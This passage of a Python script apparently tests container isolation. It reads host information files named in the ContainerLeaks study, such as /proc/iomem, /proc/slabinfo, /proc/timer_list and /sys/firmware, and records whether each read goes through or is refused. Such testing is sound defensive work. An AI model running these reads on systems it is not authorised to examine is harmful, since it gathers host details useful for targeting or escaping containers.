def read_kernel_command_line():
    return read("/proc/cmdline")


@act("ContainerLeaks, DSN 2017: timers and their owners")
def read_timer_list():
    return read("/proc/timer_list")


@act("ContainerLeaks, DSN 2017: what the host's disks do")
def read_disk_statistics():
    return read("/proc/diskstats")


@act("ContainerLeaks, DSN 2017: interrupts of the host")
def read_interrupts():
    return read("/proc/interrupts")


@act("ContainerLeaks, DSN 2017: the memory map")
def read_memory_map():
    return read("/proc/iomem")


@act("ContainerLeaks, DSN 2017: who owns which slab", "ENOENT")
def read_slabs():
    return read("/proc/slabinfo")


@act("ContainerLeaks, DSN 2017: the machine's serial numbers", "ENOENT")
def read_firmware_tables():
    files = [f"{directory}/{name}" for directory, _, names in os.walk("/sys/firmware") for name in names]
    return f"{len(files)} files" if files else refuse("empty")


# Running

def run(name):
    function, _source, refusals = ACTS[name]
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(reader)
        try:
            answer = ["through", function() or ""]
        except OSError as error:
            code = errno.errorcode.get(error.errno, str(error.errno))
            verdict = "refused" if code in refusals else "broken"
            if PARAMETERS["control"] and code in ABSENT:
                verdict = "absent"
            answer = [verdict, f"{code} {error}"]
        except BaseException as error:
            answer = ["broken", f"{type(error).__name__}: {error}"]
        os.write(writer, json.dumps(answer).encode())
        os._exit(0)
    os.close(writer)
    answer = ["broken", "no answer in time"]
    if select.select([reader], [], [], DEADLINE)[0]:
        answer = json.loads(os.read(reader, 65536) or '["broken", "ended without an answer"]')
    os.close(reader)
    with contextlib.suppress(ProcessLookupError):
        os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
    return [name, *answer]


def main():
    PARAMETERS.update(json.loads(sys.argv[1]))
    for name in sys.argv[2:] or ACTS:
        print(json.dumps(run(name)), flush=True)


if __name__ == "__main__":
    main()
